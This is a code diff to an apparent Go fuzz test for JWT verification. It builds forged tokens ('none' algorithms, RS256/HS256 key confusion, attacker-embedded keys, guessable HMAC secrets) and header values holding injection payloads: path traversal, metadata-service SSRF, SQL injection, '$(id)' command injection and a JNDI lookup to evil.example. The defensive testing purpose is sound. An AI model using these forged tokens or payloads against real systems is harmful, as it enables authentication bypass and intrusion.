@@ -22,9 +22,9 @@ import (
 	"roster/shared/credential/token"
 )
 
-// unsigned is a token of somebody who has no key of ours: with no signature,
-// with that of another token, or with one of a key of their own choice.
-func (m *mutator) unsigned() string {
+// forged returns a token from an attacker who does not have our keys: without a
+// signature, with the signature of another token, or signed with another key.
+func (m *mutator) forged() string {
 	header := m.header.with("alg", m.algorithm())
 	if m.IntN(2) == 0 {
 		header = header.with(pick(m, "kid", "kid", "jku", "x5u", "jwk", "x5c", "x5t", "cty", "zip", "b64", "enc", "KID"), m.hint())
@@ -46,12 +46,14 @@ func (m *mutator) unsigned() string {
 }
 
 func (m *mutator) algorithm() any {
-	return pick[any](m, m.header["alg"], m.header["alg"], "HS256", "none", "None", "NONE", "nOnE", "none\x00", " none", "", "hs256", "HS384", "HS512", "RS256", "PS256", "ES256", "EdDSA",
-		"HS256,none", []string{"none"}, []string{"HS256"}, object{"alg": "HS256"}, 0, true, nil, gone{}, spelled(m.Uint32(), "none"), spelled(m.Uint32(), "hs256"))
+	return pick[any](m, m.header["alg"], m.header["alg"], "HS256", "none", "None", "NONE", "nOnE", "none\x00", " none", "", "hs256",
+		"HS384", "HS512", "RS256", "PS256", "ES256", "EdDSA",
+		"HS256,none", []string{"none"}, []string{"HS256"}, object{"alg": "HS256"}, 0, true, nil, absent{}, withCase(m.Uint32(), "none"),
+		withCase(m.Uint32(), "hs256"))
 }
 
-// spelled takes the case of each letter from a bit.
-func spelled(bits uint32, s string) string {
+// withCase makes a letter a capital if its bit is 1.
+func withCase(bits uint32, s string) string {
 	b := []byte(s)
 	for i := range b {
 		if bits>>i&1 == 1 {
@@ -61,16 +63,21 @@ func spelled(bits uint32, s string) string {
 	return string(b)
 }
 
-// hint is where a token would like its key to be looked for.
+// hint returns a header value that tells a careless verifier where to find the
+// key.
 func (m *mutator) hint() any {
-	return pick[any](m, "../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", `C:\Windows\win.ini`, "https://evil.example/keys.json", "file:///etc/passwd",
-		"http://169.254.169.254/latest/meta-data", "' UNION SELECT 'evil' --", `"; DROP TABLE users; --`, "$(id)", "|id", "${jndi:ldap://evil.example/x}", "", "\x00", "\u202e", "none",
-		strings.Repeat("k", 10<<10), strings.Repeat("../", 1000), 0, -1, true, nil, object{"kty": "oct", "k": encode([]byte("evil"))}, []string{"AAAA"}, object{}, []any{})
+	return pick[any](m, "../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", `C:\Windows\win.ini`,
+		"https://evil.example/keys.json", "file:///etc/passwd",
+		"http://169.254.169.254/latest/meta-data", "' UNION SELECT 'evil' --", `"; DROP TABLE users; --`, "$(id)", "|id",
+		"${jndi:ldap://evil.example/x}", "", "\x00", "\u202e", "none",
+		strings.Repeat("k", 10<<10), strings.Repeat("../", 1000), 0, -1, true, nil, object{"kty": "oct", "k": encode([]byte("evil"))},
+		[]string{"AAAA"}, object{}, []any{})
 }
 
-// mac is under what an attacker may take for the key or may make one.
+// mac returns an HMAC with a key that an attacker may guess or choose.
 func (m *mutator) mac(content string, of func() hash.Hash) []byte {
-	key := pick(m, append(m.public, "", "\x00", "evil", "secret", "your_jwt_secret_key_here", issuer, audience, secret[1:], secret+"\n", strings.ToUpper(secret), encode([]byte(secret)), publicKey())...)
+	key := pick(m, append(m.public, "", "\x00", "evil", "secret", "your_jwt_secret_key_here", issuer, audience, secret[1:], secret+"\n",
+		strings.ToUpper(secret), encode([]byte(secret)), publicKey())...)
 	h := hmac.New(of, []byte(key))
 	h.Write([]byte(content))
 	return h.Sum(nil)
@@ -81,8 +88,8 @@ type asymmetricKeys struct {
 	ecdsa *ecdsa.PrivateKey
 }
 
-// Keys of an attacker's own, made once: an RSA key takes its time.
-var attackers = sync.OnceValue(func() (k asymmetricKeys) {
+// attackerKeys are made once, because generating an RSA key is slow.
+var attackerKeys = sync.OnceValue(func() (k asymmetricKeys) {
 	var err error
 	if k.rsa, err = rsa.GenerateKey(rand.Reader, 2048); err != nil {
 		panic(err)
@@ -93,22 +100,22 @@ var attackers = sync.OnceValue(func() (k asymmetricKeys) {
 	return k
 })
 
-// publicKey is what HS256 would be given in place of a secret by a service that
-// expects RS256 (CVE-2016-5431).
+// publicKey is an RSA public key in PEM. A service that expects RS256 may use it
+// as the secret of HS256 by mistake (CVE-2016-5431).
 var publicKey = sync.OnceValue(func() string {
-	der, err := x509.MarshalPKIXPublicKey(attackers().rsa.Public())
+	der, err := x509.MarshalPKIXPublicKey(attackerKeys().rsa.Public())
 	if err != nil {
 		panic(err)
 	}
 	return string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
 })
 
-// asymmetric is signed rightly under a key pair that the token may bring along.
-// RSA is slow and comes seldom.
+// asymmetric returns a token with a correct signature by the attacker's key,
+// perhaps with its public key in the header. RSA is rare because it is slow.
 func (m *mutator) asymmetric(claims object) string {
-	method, key := jwt.SigningMethod(jwt.SigningMethodES256), any(attackers().ecdsa)
+	method, key := jwt.SigningMethod(jwt.SigningMethodES256), any(attackerKeys().ecdsa)
 	if m.IntN(50) == 0 {
-		method, key = pick[jwt.SigningMethod](m, jwt.SigningMethodRS256, jwt.SigningMethodPS256), attackers().rsa
+		method, key = pick[jwt.SigningMethod](m, jwt.SigningMethodRS256, jwt.SigningMethodPS256), attackerKeys().rsa
 	}
 	tok := jwt.NewWithClaims(method, jwt.MapClaims(claims))
 	tok.Header["typ"] = "at+jwt"
@@ -116,7 +123,10 @@ func (m *mutator) asymmetric(claims object) string {
 		tok.Header["kid"] = kid
 	}
 	if m.IntN(2) == 0 {
-		tok.Header["jwk"] = object{"kty": "EC", "crv": "P-256", "x": encode(attackers().ecdsa.X.Bytes()), "y": encode(attackers().ecdsa.Y.Bytes())}
+		tok.Header["jwk"] = object{
+			"kty": "EC", "crv": "P-256", "x": encode(attackerKeys().ecdsa.X.Bytes()),
+			"y": encode(attackerKeys().ecdsa.Y.Bytes()),
+		}
 	}
 	raw, err := tok.SignedString(key)
 	if err != nil {
@@ -125,7 +135,7 @@ func (m *mutator) asymmetric(claims object) string {
 	return raw
 }
 
-// claims are those of the real token.
+// claims returns the claims of the real token.
 func (m *mutator) claims() (o object) {
 	b, err := base64.RawURLEncoding.DecodeString(m.parts[1])
 	if err == nil {
@@ -137,15 +147,15 @@ func (m *mutator) claims() (o object) {
 	return o
 }
 
-// signedWrongly has our own signature and something in it that we never issue,
-// as from another program that was given the key.
-func (m *mutator) signedWrongly() string {
+// signedByUs returns a token that our key has signed, with contents that we
+// never issue, as from another program that has the key.
+func (m *mutator) signedByUs() string {
 	header, claims := segment(m.t, m.header), m.claims()
 	switch m.IntN(7) {
 	case 0:
-		name := pick(m, "typ", "crit")
+		header := pick(m, "typ", "crit")
 		value := pick[any](m, "JWT", "jwt", "rt+jwt", "AT+JWT", []string{"at+jwt"}, []string{"exp"}, 1, true, object{})
-		return m.sign(segment(m.t, m.header.with(name, value)), m.parts[1])
+		return m.sign(segment(m.t, m.header.with(header, value)), m.parts[1])
 	case 1:
 		return m.sign(segment(m.t, m.header.with("alg", m.otherAlgorithm())), m.parts[1])
 	case 2:
@@ -153,19 +163,22 @@ func (m *mutator) signedWrongly() string {
 	case 3: // not an object at all, or damaged
 		body := pick(m, "", "null", "[]", "{", "{}", `"`+subject+`"`, "0", strings.Repeat("[", 1000), `{"sub":`, "{}{}", "\x00")
 		return m.sign(pick(m, header, encode([]byte(body))), encode([]byte(body)))
-	case 4: // a shared secret alone passes over any kid
+	case 4: // not for a shared secret, which ignores kid
 		if m.header["kid"] != nil {
-			return m.sign(segment(m.t, m.header.with("kid", pick[any](m, append(m.kids, "", " ", m.header["kid"].(string)+" ", m.header["kid"].(string)[1:], m.hint(), gone{}, nil)...))), m.parts[1])
+			kid := m.header["kid"].(string)
+			other := pick(m, append(m.kids, "", " ", kid+" ", kid[1:], m.hint(), absent{}, nil)...)
+			return m.sign(segment(m.t, m.header.with("kid", other)), m.parts[1])
 		}
 	}
 	name := pick(m, "iss", "aud", "sub", "jti", "ver", "sid", "role", "exp", "nbf", "iat")
-	return m.sign(header, segment(m.t, claims.with(name, m.wrong(name))))
+	return m.sign(header, segment(m.t, claims.with(name, m.invalidValue(name))))
 }
 
-// otherAlgorithm is never the key's own.
+// otherAlgorithm returns an alg that is not the key's own.
 func (m *mutator) otherAlgorithm() any {
 	for {
-		alg := pick[any](m, "none", "nOnE", "HS256", "RS256", "ES256", "EdDSA", "PS256", "HS384", "HS512", "ES384", "RS512", "Ed25519", "", gone{}, nil, []string{"HS256"})
+		alg := pick[any](m, "none", "nOnE", "HS256", "RS256", "ES256", "EdDSA", "PS256", "HS384", "HS512", "ES384", "RS512", "Ed25519",
+			"", absent{}, nil, []string{"HS256"})
 		if text, ok := alg.(string); !ok || text != m.header["alg"] {
 			return alg
 		}
@@ -173,17 +186,20 @@ func (m *mutator) otherAlgorithm() any {
 }
 
 func (m *mutator) audience() any {
-	return pick[any](m, []string{}, []string{""}, []any{nil}, []any{[]string{audience}}, []string{audience, audience}, []string{"billing", audience},
-		[]any{audience, 1}, object{"0": audience}, "", "Roster", audience+" ", audience+"\x00", 0, nil, gone{})
+	return pick[any](m, []string{}, []string{""}, []any{nil}, []any{[]string{audience}}, []string{audience, audience},
+		[]string{"billing", audience},
+		[]any{audience, 1}, object{"0": audience}, "", "Roster", audience+" ", audience+"\x00", 0, nil, absent{})
 }
 
-// wrong is a value that a claim of ours never has. Times are in seconds.
-func (m *mutator) wrong(name string) any {
+// invalidValue returns a value that this claim never has in a valid token. Times
+// are in seconds.
+func (m *mutator) invalidValue(name string) any {
 	at, far := now.Unix(), int64(6+m.IntN(1<<30))
-	several := []any{gone{}, nil, true, false, object{}, []any{}, []any{nil}, object{"a": 1}, [][]int{{1}}, 1e300, -1e300}
+	several := []any{absent{}, nil, true, false, object{}, []any{}, []any{nil}, object{"a": 1}, [][]int{{1}}, 1e300, -1e300}
 	switch name {
 	case "exp":
-		several = append(several, at-far, at-5, at+int64(token.Lifetime.Seconds())+far, 0, -1, "1767605400", math.MaxInt64, uint64(math.MaxUint64))
+		several = append(several, at-far, at-5, at+int64(token.Lifetime.Seconds())+far, 0, -1, "1767605400", math.MaxInt64,
+			uint64(math.MaxUint64))
 	case "nbf", "iat":
 		several = append(several, at-far, at+far, 0, -1, "1767605400", math.MaxInt64, uint64(math.MaxUint64))
 	case "ver":
@@ -193,8 +209,9 @@ func (m *mutator) wrong(name string) any {
 	case "role":
 		several = append(several, "", "user", "USER ", "USER,ADMIN", 0, []string{"ADMIN"})
 	case "iss":
-		several = append(several, "", 0, issuer+"/", issuer+"\x00", strings.ToUpper(issuer), "http://accounts.example.com", []string{issuer}, "https://accounts.example.com.evil.example")
-	default: // texts
+		several = append(several, "", 0, issuer+"/", issuer+"\x00", strings.ToUpper(issuer), "http://accounts.example.com",
+			[]string{issuer}, "https://accounts.example.com.evil.example")
+	default: // strings
 		several = append(several, "", 0, 7, []string{subject})
 	}
 	return pick(m, several...)
